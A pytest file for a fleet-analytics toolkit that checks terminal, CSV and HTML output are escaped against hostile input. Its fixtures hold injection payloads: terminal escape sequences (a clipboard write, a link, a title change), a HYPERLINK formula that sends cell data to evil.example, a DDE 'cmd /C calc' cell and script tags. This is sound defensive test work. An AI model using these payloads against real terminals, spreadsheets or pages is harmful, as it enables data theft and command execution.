"""Text from the fleet is data: made visible for a terminal, inert in a spreadsheet,
escaped in the HTML report; CSV written by the toolkit reads back exactly."""

from __future__ import annotations

import csv
import json
import re

import pandas as pd
import pytest

import koyeb_analytics as ka
from koyeb_analytics.execute._transcript import load_transcript, save_transcript, transcript_frame
from koyeb_analytics.poller import format_change
from koyeb_analytics.report._html import render_report
from koyeb_analytics.textsafe import csv_escape, csv_unescape, visible

from .conftest import NOW

# What a hostile fleet can put in a message or a name, and how it must be shown.
ESCAPES = {
    "clear screen": ("\x1b[2J", "\\x1b[2J"),
    "cursor home": ("\x1b[H", "\\x1b[H"),
    "OSC 52 clipboard": ("\x1b]52;c;ZWNobyBvd25lZA==\x07", "\\x1b]52;c;ZWNobyBvd25lZA==\\x07"),
    "OSC 8 link": ("\x1b]8;;http://evil.example\x1b\\text\x1b]8;;\x1b\\",
                   "\\x1b]8;;http://evil.example\\x1b\\text\\x1b]8;;\\x1b\\"),
    "title": ("\x1b]0;owned\x07", "\\x1b]0;owned\\x07"),
    "carriage return": ("done\rfail", "done\\rfail"),
    "backspace": ("ok\x08\x08no", "ok\\x08\\x08no"),
    "C1 CSI": ("\x9b2J", "\\x9b2J"),
    "C1 OSC": ("\x9d0;owned\x9c", "\\x9d0;owned\\x9c"),
    "right-to-left override": ("txt.\u202eexe", "txt.\\u202eexe"),
    "DEL and NUL": ("a\x7fb\x00", "a\\x7fb\\x00"),
}
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]")
"""What must never reach a terminal from the data (tab and newline may)."""


@pytest.mark.parametrize("kind", list(ESCAPES))
def test_every_escape_kind_is_shown_not_acted_on(kind):
    raw, shown = ESCAPES[kind]
    out = visible(f"before {raw} after")
    assert RAW.search(out) is None
    assert out == f"before {shown} after"


def test_ordinary_text_tabs_newlines_and_letters_stay():
    text = "café 中文 naïve\tcolumn\nnext line — ok 🙂"
    assert visible(text) == text
    assert visible(text, newlines=False) == text.replace("\n", "\\n")
    assert visible(42) == "42"


def change(**fields):
    row = {"when": pd.Timestamp(NOW), "service": "shop/api", "service_id": "s",
           "instance_id": "5b1f7f0e-1111-4222-8333-444455556666", "old": "HEALTHY",
           "new": "ERROR", "message": "Instance stopped", "event_id": "e"}
    return pd.Series({**row, **fields})


@pytest.mark.parametrize("colour", [False, True])
def test_a_watch_line_shows_hostile_fields_and_keeps_its_own_colour(colour):
    hostile = "".join(raw for raw, _ in ESCAPES.values())
    line = format_change(change(service="shop\x1b]0;owned\x07/api\x9b2J",
                                message="crashed " + hostile,
                                instance_id="\x1b[2J5b1f7f0e"), colour=colour)
    data_part = line.replace("\x1b[31mERROR\x1b[0m", "ERROR")
    assert RAW.search(data_part) is None, line
    assert "shop\\x1b]0;owned\\x07/api\\x9b2J" in line
    assert "\\x1b]52;c;ZWNobyBvd25lZA==\\x07" in line and "\\x1b[2J" in line
    assert "\n" not in line
    # Our colour is added after the data is escaped: still there, and only it.
    assert ("\x1b[31mERROR\x1b[0m" in line) is colour
    assert line.count("\x1b") == (2 if colour else 0)


def test_a_hostile_status_is_escaped_before_it_is_coloured():
    line = format_change(change(new="ERROR\x1b[8m"), colour=True)
    assert "\x1b[8m" not in line and "ERROR\\x1b[8m" in line


# -- spreadsheets -------------------------------------------------------------------
HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1:A9)",
                 "'=x", "''", "'", "\tleading tab", "\r=1+1", "=1+1\n=2", "-", "plain",
                 "007", "", "'plain"]


def hostile_transcript():
    rows = [{"run_id": k, "started_at": "2026-11-20T00:00:00Z",
             "ended_at": "2026-11-20T00:00:01.5Z", "instance_id": f"i{k}",
             "service_id": "s", "command": cell, "exit_code": -2 if k % 2 else None,
             "exited": bool(k % 2), "timed_out": False, "stdout": cell,
             "stderr": "=cmd|' /C calc'!A0", "error": "", "redacted": -1 if k % 3 else None,
             "parsed": "@x" if k % 2 else json.dumps([{"cell": cell}])}
            for k, cell in enumerate(HOSTILE_CELLS)]
    return transcript_frame(rows)


def test_a_transcript_csv_is_inert_in_a_spreadsheet_and_reads_back_exactly(tmp_path):
    t = hostile_transcript()
    path = save_transcript(t, tmp_path / "t.csv")
    with path.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        for col in ("command", "stdout", "stderr", "parsed"):
            assert not row[col].startswith(("=", "+", "-", "@", "\t", "\r")), (col, row[col])
    assert rows[0]["stdout"] == "'" + HOSTILE_CELLS[0]
    assert rows[4]["stdout"] == "''=x"  # one more ' for text that had one: reversible
    assert rows[1]["exit_code"] == "-2"  # numbers are numbers, not text cells
    # JSON in a cell is exact (it starts with "[", nothing to defuse).
    assert json.loads(rows[0]["parsed"]) == [{"cell": HOSTILE_CELLS[0]}]
    back = load_transcript(path)
    pd.testing.assert_frame_equal(back, t)
    assert back["stdout"].tolist() == HOSTILE_CELLS


def test_raw_csv_keeps_the_text_and_parquet_stays_exact(tmp_path):
    t = hostile_transcript()
    raw = save_transcript(t, tmp_path / "raw.csv", safe=False)
    with raw.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["stdout"] for r in rows] == HOSTILE_CELLS
    pd.testing.assert_frame_equal(load_transcript(raw, safe=False), t)
    pq = save_transcript(t, tmp_path / "t.parquet")
    back = load_transcript(pq)
    pd.testing.assert_frame_equal(back, t)
    assert back["command"].tolist() == HOSTILE_CELLS  # never prefixed


def test_csv_escape_leaves_numbers_and_round_trips_text_and_categoricals():
    df = pd.DataFrame({"n": [-2, 3, -4], "x": [-1.5, 0.0, 2.0],
                       "s": pd.Series(["-2", "=a", None], dtype="str"),
                       "o": ["@b", 5, None],
                       "c": pd.Categorical(["+x", "y", "+x"]),
                       "=HYPERLINK(1)": ["a", "b", "c"]})
    safe = csv_escape(df)
    assert safe["n"].tolist() == [-2, 3, -4] and safe["x"].dtype == df["x"].dtype
    assert safe["s"].tolist()[:2] == ["'-2", "'=a"] and pd.isna(safe["s"].iloc[2])
    assert safe["o"].tolist()[:2] == ["'@b", 5]
    assert list(safe["c"].cat.categories) == ["'+x", "y"]
    assert "'=HYPERLINK(1)" in safe.columns
    pd.testing.assert_frame_equal(csv_unescape(safe), df)
    assert df["s"].tolist()[0] == "-2"  # the input is not changed


# -- the HTML report ----------------------------------------------------------------
def test_the_html_report_escapes_markup_and_terminal_sequences():
    with ka.simulate(seed=3, days=1, services=2) as sim:  # "now" is now: the window holds
        svc = next(iter(sim.fleet.service_names))
        sim.fleet.service_names[svc] = "<script>alert(1)</script>\x1b]0;owned\x07api"
        data = ka.load_window(sim.client(), window="1d", progress=False)
    hostile = "<script>alert(2)</script>\x1b[2J\x9b2J\x1b]52;c;ZWNobyBvd25lZA==\x07"
    events = data.events.assign(message=hostile + data.events["message"].astype(str))
    a = ka.analyse(data.instances, events, since=data.since, until=data.until)
    assert len(a.events)
    html = render_report(a)
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in html  # the vocabulary's messages
    assert RAW.search(html.replace("\n", "")) is None
    assert "\\x1b]0;owned\\x07api" in html and "\\x1b]52;c;" in html
